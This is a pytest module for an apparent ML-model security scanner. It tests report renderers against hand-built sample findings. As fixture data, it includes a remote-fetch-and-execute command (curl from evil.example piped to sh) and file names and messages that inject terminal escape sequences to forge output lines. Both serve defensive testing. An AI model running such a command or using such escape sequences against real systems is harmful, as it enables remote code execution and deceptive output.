"""Shared report builders for the renderer tests, plus tests of the renderer registry.

The sample report is built by hand (no scanner involved) so that renderers are tested against every
shape the model allows: archive member chains, nested archives, errors with and without partial findings,
skipped and clean files, every severity, an unknown rule id, unicode, undecodable and hostile names.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest

from mlvet.model import Confidence, FileResult, Finding, Location, ScanReport, Severity, Status
from mlvet.report import (
    JsonRenderer,
    Renderer,
    SarifRenderer,
    TextRenderer,
    get_renderer,
    register_renderer,
    renderer_names,
)

SRC = Path(__file__).resolve().parents[2] / "src"

STARTED = datetime(2025, 1, 2, 3, 4, 5, 123456, tzinfo=timezone.utc)
FINISHED = datetime(2025, 1, 2, 3, 4, 7, tzinfo=timezone.utc)

#: Markup, a screen clear, a right-to-left override and a newline that would forge a verdict line.
HOSTILE_PATH = "[bold]x[/]\x1b[2J\u202eevil\nCLEAN     fake.pkl"
HOSTILE_MESSAGE = "calls [red]CLEAN[/red] \x1b]0;pwned\x07 at load"
HOSTILE_EVIDENCE = "exec('\x1b[2J')\nCLEAN     forged\r\x1b[31mred\x9b2J"
UNICODE_PATH = "модель/重み 1.pkl"
UNDECODABLE_PATH = "bad\udcff.pkl"  # a file name that was not valid UTF-8 (surrogateescape)
EVIDENCE = "os.system('curl https://evil.example/x | sh')"

SHA = "ab" * 32


def _finding(
    rule_id: str,
    severity: Severity,
    path: str,
    *,
    members: tuple[str, ...] = (),
    offset: int | None = None,
    opcode_index: int | None = None,
    evidence: str = "",
    message: str = "",
    confidence: Confidence = Confidence.HIGH,
    cwe: int | None = None,
) -> Finding:
    return Finding(
        rule_id=rule_id,
        severity=severity,
        message=message or f"{rule_id} message",
        location=Location(path, members, offset, opcode_index),
        evidence=evidence,
        confidence=confidence,
        cwe=cwe,
    )


def sample_results() -> tuple[FileResult, ...]:
    evil = "models/evil.pt"
    nested = "models/nested.7z"
    partial = "models/partial.pkl"
    return (
        FileResult(
            path=evil,
            format="pytorch-zip",
            status=Status.SCANNED,
            size=123456,
            sha256=SHA,
            formats_seen=("zip", "pickle"),
            findings=(
                _finding(
                    "PKL100",
                    Severity.CRITICAL,
                    evil,
                    members=("archive/data.pkl",),
                    offset=1234,
                    opcode_index=17,
                    evidence=EVIDENCE,
                    message="The pickle calls os.system.",
                    cwe=502,
                ),
                _finding(
                    "PKL101",
                    Severity.HIGH,
                    evil,
                    members=("archive/data.pkl",),
                    offset=40,
                    evidence="subprocess.Popen",
                    confidence=Confidence.MEDIUM,
                    cwe=502,
                ),
                _finding("ARC300", Severity.MEDIUM, evil, offset=0, evidence="CRC mismatch"),
            ),
        ),
        FileResult(
            path=nested,
            format="7z",
            status=Status.SCANNED,
            size=2048,
            sha256="cd" * 32,
            findings=(
                _finding(
                    "PKL205",
                    Severity.CRITICAL,
                    nested,
                    members=("inner.zip", "archive/data.pkl"),
                    offset=7,
                    evidence="builtins.getattr(..., '__globals__')",
                    cwe=502,
                ),
            ),
        ),
        FileResult(
            path=HOSTILE_PATH,
            format="pickle",
            status=Status.SCANNED,
            findings=(
                _finding(
                    "PKL110",
                    Severity.MEDIUM,
                    HOSTILE_PATH,
                    members=("[i]m[/i]\x1b[1A",),
                    evidence=HOSTILE_EVIDENCE,
                    message=HOSTILE_MESSAGE,
                    confidence=Confidence.LOW,
                ),
            ),
        ),
        FileResult(
            path=UNICODE_PATH,
            format="pickle",
            status=Status.SCANNED,
            findings=(
                _finding("PKL111", Severity.LOW, UNICODE_PATH, offset=3, evidence="тест.модуль"),
                _finding("PKL210", Severity.INFO, UNICODE_PATH, offset=99),
                _finding(
                    "XYZ999", Severity.LOW, UNICODE_PATH, message="from a rule this mlvet does not know"
                ),
            ),
        ),
        FileResult(path="broken.7z", format="7z", status=Status.ERROR, errors=("py7zr is not installed",)),
        FileResult(
            path=partial,
            format="pickle",
            status=Status.ERROR,
            errors=("truncated stream", "second problem"),
            findings=(_finding("PKL200", Severity.MEDIUM, partial, offset=512, cwe=20),),
        ),
        FileResult(path="README.md", format="unknown", status=Status.SKIPPED, skip_reason="not a model file"),
        FileResult(
            path="good.safetensors", format="safetensors", status=Status.SCANNED, size=10, sha256="ef" * 32
        ),
        FileResult(path=UNDECODABLE_PATH, format="pickle", status=Status.SCANNED),
    )


def sample_report(results: tuple[FileResult, ...] | None = None) -> ScanReport:
    return ScanReport(
        results=sample_results() if results is None else results,
        started_at=STARTED,
        finished_at=FINISHED,
        policy_sources=("builtin", "pyproject.toml"),
    )


def clean_report(count: int = 3) -> ScanReport:
    return sample_report(
        tuple(
            FileResult(path=f"ok/{i}.safetensors", format="safetensors", status=Status.SCANNED)
            for i in range(count)
        )
    )


def render(name: str, report: ScanReport, *, color: bool = False, verbose: bool = False) -> str:
    buffer = io.StringIO()
    get_renderer(name).render(report, buffer, color=color, verbose=verbose)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------- registry


def test_builtin_renderers_are_registered() -> None:
    assert renderer_names()[:3] == ("text", "json", "sarif")
    assert isinstance(get_renderer("text"), TextRenderer)
    assert isinstance(get_renderer("JSON"), JsonRenderer)
    assert isinstance(get_renderer(" sarif "), SarifRenderer)
    for name in renderer_names():
        assert isinstance(get_renderer(name), Renderer)
        assert get_renderer(name).name == name


def test_unknown_renderer_lists_choices() -> None:
    with pytest.raises(ValueError, match=r"unknown output format 'xml'.*text, json, sarif"):
        get_renderer("xml")


def test_register_refuses_duplicates_unless_replaced() -> None:
    class Dummy:
        name = "json"

        def render(
            self, report: ScanReport, out: object, *, color: bool = False, verbose: bool = False
        ) -> None:
            raise AssertionError("never called")

    original = get_renderer("json")
    with pytest.raises(ValueError, match="already registered"):
        register_renderer(Dummy())
    try:
        register_renderer(Dummy(), replace=True)
        assert isinstance(get_renderer("json"), Dummy)
    finally:
        register_renderer(original, replace=True)
    assert get_renderer("json") is original


def test_every_renderer_handles_every_sample() -> None:
    for name in renderer_names():
        for report in (sample_report(), sample_report(()), clean_report(30)):
            assert render(name, report)


def test_importing_report_package_does_not_import_rich() -> None:
    code = "import sys, mlvet.report; assert 'rich' not in sys.modules, 'rich imported eagerly'"
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join(filter(None, (str(SRC), os.environ.get("PYTHONPATH")))),
    }
    subprocess.run([sys.executable, "-c", code], check=True, env=env)
